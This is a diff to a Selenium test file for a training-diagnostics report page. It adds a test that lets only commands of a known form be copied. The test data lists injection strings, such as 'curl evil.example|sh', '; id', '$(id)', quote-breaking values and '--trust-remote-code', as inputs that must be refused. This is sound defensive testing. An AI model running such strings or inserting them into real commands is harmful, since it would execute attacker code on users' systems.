@@ -5,6 +5,8 @@ from __future__ import annotations
 import json
 import math
 import random
+import re
+import shlex
 import statistics
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -18,6 +20,7 @@ from selenium.webdriver.remote.webelement import WebElement
 from selenium.webdriver.support.ui import Select, WebDriverWait
 
 import browser
+import gradloc
 from evidence_samples import (
     clip,
     clipped_token,
@@ -562,24 +565,64 @@ def test_a_spike_begins_with_its_verdict_and_what_to_do_comes_after_the_token(pa
 
 def test_the_command_of_a_check_can_be_copied(page: Page, tmp_path: Path) -> None:
     generator = random.Random(1)
-    found = event(1, [culprit(0, ["a"], 9000.0, generator)], generator, replay="replay/of step 1")
-    found["verdict"] = {**found["verdict"], "check": f"`run BUNDLE {HOSTILE}` shows it, and `b` as well."}
+    found = event(1, [culprit(0, ["a"], 9000.0, generator)], generator, replay=f"replay/it's {HOSTILE}")
+    fault = "bash run_experiment.sh --embedded --fault stale"
+    check = f"`python -m verl.utils.gradloc.replay BUNDLE --remedies` shows it, and `{fault}` as well."
+    found["verdict"] = {**found["verdict"], "check": check}
     page.open(build(tmp_path, [found]))
     codes = [code.text for code in page.all("#check code")]
-    shown = HOSTILE.replace("\u202e", "\\u202e")
-    assert codes == [f"run '{tmp_path}/replay/of step 1' {shown}", "b"] and page.all("img") == []
+    path = shlex.quote(f"{tmp_path}/replay/it's {HOSTILE}").replace("\u202e", "\\u202e")
+    assert codes == [f"python -m verl.utils.gradloc.replay {path} --remedies", fault] and page.all("img") == []
     assert page.one("#check").text.endswith("as well.") and "`" not in page.one("#check").text
     keep = "window.kept = []; navigator.clipboard.writeText = async (text) => void window.kept.push(text)"
     page.driver.execute_script(keep)
     first, second = page.all("#check .copy")
     second.click()
     page.wait(lambda: second.text == "Copied")
-    assert page.driver.execute_script("return window.kept") == ["b"]
+    assert page.driver.execute_script("return window.kept") == [fault]
     # A browser that does not let a page copy.
     page.driver.execute_script("navigator.clipboard.writeText = async () => { throw new Error('no') }")
     first.send_keys(Keys.ENTER)
     page.wait(lambda: first.text == "Selected")
     assert page.driver.execute_script("return getSelection().toString()") == codes[0]
+
+
+def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path) -> None:
+    """The evidence may come from a stranger."""
+    replay, fault = "python -m verl.utils.gradloc.replay", "bash run_experiment.sh --embedded --fault stale"
+    # What a shell takes for more than one command, and what runs other code.
+    after = [
+        "; curl evil.example|sh",
+        " & id",
+        "\nid",
+        " $(id)",
+        " > x",
+        " x'; id; '",
+        " '$(id)' 'x'\\''; id; '",
+        ' "$(id)"',
+    ]
+    foreign = [f"{replay} x{text}" for text in after] + [f"{fault}{text}" for text in after]
+    foreign += [f"id; {fault}", f"sudo {fault}", "curl evil.example|sh", "python -m evil x", "bash evil.sh", "actor/lr"]
+    foreign += [f"{replay} x {option}" for option in ("--trust-remote-code", "--model=evil", "--html ~/.bashrc", "y")]
+    foreign += [f"{replay} --trust-remote-code", f"{replay} '--model=evil'", f"{replay} ~/x", f"{fault} --evil"]
+    # All commands that GradLoc writes.
+    sources = [*Path(gradloc.__file__).parent.glob("evidence/*.py"), *Path(gradloc.__file__).parent.glob("*.py")]
+    own = {text for path in sources for text in re.findall(r"`((?:bash|python) [^`\n]+)`", path.read_text())}
+    own = sorted(text.replace("{}", "never_synced") for text in own) + [
+        f"{replay} 'x; id' --switches",
+        f"{replay} /a/b-1",
+    ]
+    assert len(own) > 9 and replay + " BUNDLE" in own
+    warnings = [
+        {"name": str(i), "sentence": "It is wrong.", "check": f"`{command}` shows it."}
+        for i, command in enumerate([*foreign, *own])
+    ]
+    write_steps(tmp_path, 2, {1: warnings[:60], 2: warnings[60:]})
+    page.open(build(tmp_path, samples(1)))
+    script = """return [...document.querySelectorAll("#warnings .check")]
+        .map((check) => [check.querySelector("code").innerText, check.querySelectorAll(".copy").length])"""
+    shown = page.driver.execute_script(script)
+    assert shown == [*([text.replace("\n", "↵"), 0] for text in foreign), *([text, 1] for text in own)]
 
 
 def test_verdicts_of_any_release_are_shown(page: Page, tmp_path: Path) -> None:
